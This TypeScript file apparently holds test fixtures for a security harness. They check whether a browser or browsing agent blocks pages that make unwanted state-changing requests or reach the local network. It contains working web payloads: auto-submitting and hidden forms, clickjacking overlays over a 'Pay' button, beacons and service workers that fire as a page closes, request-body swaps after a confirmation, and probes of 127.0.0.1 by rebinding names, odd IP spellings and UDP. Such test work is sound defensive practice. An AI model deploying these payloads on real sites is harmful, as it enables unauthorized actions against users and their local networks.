/** Pages that change something at a site, or reach what nobody has opened. */
import { type Attack, element, isUdp, type Mind, type Place, rows, JS, STUN } from './attack.ts';
const POST = `{ method: 'POST', body: '1' }`;
const form = (inside = '<button>Save</button>', how = 'method=post action="go"'): string =>
  `<form ${how}>${inside}</form>`;
const save = (script: string): { html: string; script: string; mind: NonNullable<Attack['mind']> } => ({
  html: '<button id=b>Save</button>',
  script: `b.onclick = async () => { ${script} }`,
  mind: pressSave,
});
const worker = (script: string): string => `URL.createObjectURL(new Blob(['${script}']))`;
export const CHANGES = rows('change', {
  form: { html: form(), mind: pressSave },
  'form: its button says something else': {
    html: form('<button>Cancel</button>'),
    mind: (mind) => mind.click('Cancel'),
  },
  'form: to another site': {
    html: form('<button formmethod=post id=b>Save</button>', ''),
    script: `b.formAction = S + '/go'`,
    mind: pressSave,
  },
  'form: by the key Enter': { html: form('<input name=q autofocus>'), mind: (mind) => mind.press('Enter') },
  'form: hidden fields that are filled': {
    html: form('<input name=q aria-label=Search><input name=all style="opacity:0"><button>Save</button>'),
    script: `document.forms[0].q.oninput = ({ target }) => document.forms[0].all.value = target.value`,
    mind: async (mind, { canary }) => (await mind.type('Search', canary), await mind.click('Save')),
  },
  'form: in another tab': { html: form(undefined, 'method=post target=_blank action="go"'), mind: pressSave },
  'form: in a hidden frame': {
    html: `<iframe name=in hidden></iframe>${form(undefined, 'method=post target=in action="go"')}`,
    mind: pressSave,
  },
  'form: by itself': { html: form(), script: `document.forms[0].submit()` },
  'form: with a file': save(
    `const d = new FormData(); d.append('f', new Blob(['x']), 'x'); fetch(E + '/go', { method: 'POST', body: d })`,
  ),
  'form: by its label': {
    html: form('<label for=s><b role=button>Read on</b></label><input type=submit id=s hidden>'),
    mind: (mind) => mind.click('Read on'),
  },
  'link with a script': {
    html: `<a id=b href="#">Read on</a>`,
    script: `b.href = "javascript:void fetch(E + '/go', ${POST.replaceAll("'", '`')})"`,
    mind: (mind) => mind.click('Read on'),
  },
  'overlay over another button': {
    html: `<div style="position:relative"><button>Read on</button>${form('<button style="position:absolute;inset:0;opacity:0">Pay</button>')}</div>`,
    mind: async (mind) => (await mind.click('Read on'), await mind.click('Pay')),
  },
  'frame of the shop below the pointer': {
    html: `<div style="position:relative"><button id=b onclick="document.querySelector('iframe').style.zIndex = 9">Read on</button><iframe id=i style="position:absolute;left:0;top:0;opacity:0.01;border:0"></iframe></div>`,
    script: `i.src = S + '/pay'; b.onmousedown = () => i.style.zIndex = 9`,
    also: {
      '/pay': {
        body: `<body style="margin:0"><form method=post action=go><button style="width:300px;height:150px">Pay</button></form><script>onmessage=()=>0; document.forms[0].submit()</script>`,
      },
    },
    mind: (mind) => mind.click('Read on'),
  },
  'dialog before it': save(`if (confirm('Read on?')) fetch(E + '/go', ${POST})`),
  fetch: `fetch(E + '/go', ${POST})`,
  'fetch: to another site': `fetch(S + '/go', { method: 'POST', mode: 'no-cors', body: '1' })`,
  'fetch: PUT': `fetch(E + '/go', { method: 'PUT', body: '1' })`,
  'fetch: DELETE': `fetch(E + '/go', { method: 'DELETE' })`,
  'fetch: PATCH elsewhere': `fetch(S + '/go', { method: 'PATCH', body: '1' })`,
  'fetch: of a method of its own': `fetch(E + '/go', { method: 'PURGE' })`,
  'fetch: a stream': `fetch(E + '/go', { method: 'POST', body: new Blob(['x'.repeat(200000)]) })`,
  'fetch: kept alive': `fetch(E + '/go', { method: 'POST', body: '1', keepalive: true })`,
  'fetch: later': `fetchLater(E + '/go', { method: 'POST', body: '1', activateAfter: 0 })`,
  'fetch: later, as it leaves': { script: `fetchLater(E + '/go', ${POST})`, mind: away },
  'request that blocks': `const x = new XMLHttpRequest(); x.open('POST', E + '/go', false); x.send('1')`,
  beacon: `navigator.sendBeacon(E + '/go', '1')`,
  'beacon as it leaves': {
    script: `addEventListener('pagehide', () => navigator.sendBeacon(E + '/go', '1'))`,
    mind: away,
  },
  'beacon as it is hidden': {
    script: `document.addEventListener('visibilitychange', () => navigator.sendBeacon(E + '/go', '1'))`,
    mind: away,
  },
  'kept alive as it leaves': {
    script: `addEventListener('pagehide', () => fetch(E + '/go', { method: 'POST', body: '1', keepalive: true }))`,
    mind: away,
  },
  ping: { html: '<a id=b href="#">Read on</a>', script: `b.ping = E + '/go'`, mind: (mind) => mind.click('Read on') },
  'report of a policy': {
    headers: { 'content-security-policy': `img-src 'none'; report-uri csp` },
    script: `new Image().src = '/x'`,
  },
  'report to an endpoint': {
    headers: { 'content-security-policy': `img-src 'none'; report-to r`, 'reporting-endpoints': `r="/{}/report"` },
    script: `new Image().src = '/x'`,
    mind: (mind) => mind.wait(1500),
  },
  worker: `new Worker(${worker(`fetch("' + E + '/go", { method: "POST", body: "1" })`)})`,
  'shared worker': {
    script: `new SharedWorker('w.js')`,
    also: { '/w.js': { type: JS, body: `fetch(E + '/go', ${POST})` } },
  },
  'service worker': {
    script: `navigator.serviceWorker.register('sw.js')`,
    also: { '/sw.js': { type: JS, body: `onactivate = () => fetch(E + '/go', ${POST})` } },
    mind: (mind) => mind.wait(500),
  },
  'service worker that comes back': {
    script: `navigator.serviceWorker.register('sw.js')`,
    also: { '/sw.js': { type: JS, body: `onfetch = () => fetch(E + '/go', ${POST})` } },
    mind: again,
  },
  popup: `const w = open(location.href + 'pop')`,
  'popup that stays': {
    script: `const w = open('about:blank'); w.setTimeout('fetch("' + E + '/go", { method: "POST", body: "1" })', 700)`,
    mind: away,
  },
  socket: `const w = new WebSocket(E.replace('https', 'wss') + '/ws'); w.onopen = () => w.send('1')`,
  'socket: plain': {
    on: 'plain',
    script: `const w = new WebSocket(P.replace('http', 'ws') + '/ws'); w.onopen = () => w.send('1')`,
  },
  'socket: in a worker': `new Worker(${worker(`new WebSocket("' + E.replace('https', 'wss') + '/ws")`)})`,
  'download by POST': save(
    `const e = document.createElement('form'); e.method = 'post'; e.action = 'attached'; document.body.append(e); e.submit()`,
  ),
  'page of data': {
    mind: (mind, { evil, path }) =>
      mind.open(
        `data:text/html,<form method=post action="${evil}${path}go"></form><script>document.forms[0].submit()</script>`,
      ),
  },
  'twice after one yes': {
    ...save(`for (const n of [1, 2, 3]) fetch(E + '/go', ${POST})`),
    allowed: 1,
    mind: async (mind) => (await mind.click('Save'), await mind.yes()),
  },
  'form twice after one yes': {
    html: form(),
    allowed: 1,
    also: { '/go': { body: '<form method=post action=go></form><script>document.forms[0].submit()</script>' } },
    mind: async (mind) => (await mind.click('Save'), await mind.yes()),
  },
  'loaded again after one yes': {
    html: form(),
    allowed: 1,
    also: {
      '/go': {
        body: '<script>if(!name){name=1;setTimeout(()=>location.reload(),200)} fetch("more",{method:"POST"})</script>',
      },
    },
    mind: async (mind) => (await mind.click('Save'), await mind.yes()),
  },
  'led on to another site after a yes': {
    html: form(),
    script: `document.forms[0].action = E + '/307?' + encodeURIComponent(S + '/go')`,
    allowed: 1,
    mind: async (mind) => (await mind.click('Save'), await mind.yes()),
  },
  'led on after a yes, without a page': {
    ...save(`fetch(E + '/308?' + encodeURIComponent(S + '/go'), { method: 'POST', mode: 'no-cors', body: '1' })`),
    allowed: 1,
    mind: async (mind) => (await mind.click('Save'), await mind.yes()),
  },
  'another body after the question': {
    ...save(
      `const c = new AbortController(); fetch(E + '/go', { method: 'POST', body: 'q=good', signal: c.signal }).catch(() => 0); setTimeout(() => (c.abort(), fetch(E + '/go', { method: 'POST', body: 'q=bad' })), 150)`,
    ),
    mind: async (mind) => (await mind.click('Save'), await mind.yes()),
    sign: (requests, _, { path }) => requests.some((line) => line.includes(path) && line.includes('q=bad')),
  },
});
export const REACHES = rows('reach', {
  'own network: picture': `new Image().src = R + '/i'`,
  'own network: frame': element('iframe', `e.src = R + '/f'`),
  'own network: fetch': `fetch(R + '/x', { mode: 'no-cors' })`,
  'own network: plain page': { on: 'plain', script: `fetch(R + '/x', { mode: 'no-cors' })` },
  'own network: by a name': { on: 'plain', script: `new Image().src = R.replace('127.0.0.1', 'rebound.test') + '/x'` },
  'own network: by another spelling': {
    on: 'plain',
    script: `new Image().src = R.replace('127.0.0.1', '0x7f.1') + '/x'`,
  },
  'own network: led there': { on: 'plain', script: `new Image().src = P + '/307?' + encodeURIComponent(R + '/x')` },
  'own network: the tab goes there': `location.href = R + '/x'`,
  'own network: socket': { on: 'plain', script: `new WebSocket(R.replace('http', 'ws') + '/ws')` },
  'own network: worker': { on: 'plain', script: `new Worker(${worker(`fetch("' + R + '/w", { mode: "no-cors" })`)})` },
  'relay by UDP': {
    script: `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + U }] }); p.createDataChannel('x'); p.setLocalDescription()`,
    sign: (_, raw) => raw.some((text) => isUdp(text) && text.includes(STUN)),
  },
  'transport by UDP': {
    script: `new WebTransport('https://127.0.0.1:' + U + '/x').ready.catch(() => 0)`,
    sign: (_, raw) => raw.some((text) => isUdp(text) && !text.includes(STUN)),
  },
});
async function pressSave(mind: Mind): Promise<void> {
  await mind.click('Save');
}

async function away(mind: Mind, { shop }: Place): Promise<void> {
  await mind.open(`${shop}/`);
  await mind.wait(300);
}

async function again(mind: Mind, place: Place): Promise<void> {
  await away(mind, place);
  await mind.open(`${place.evil}${place.path}`);
  await mind.wait(300);
}
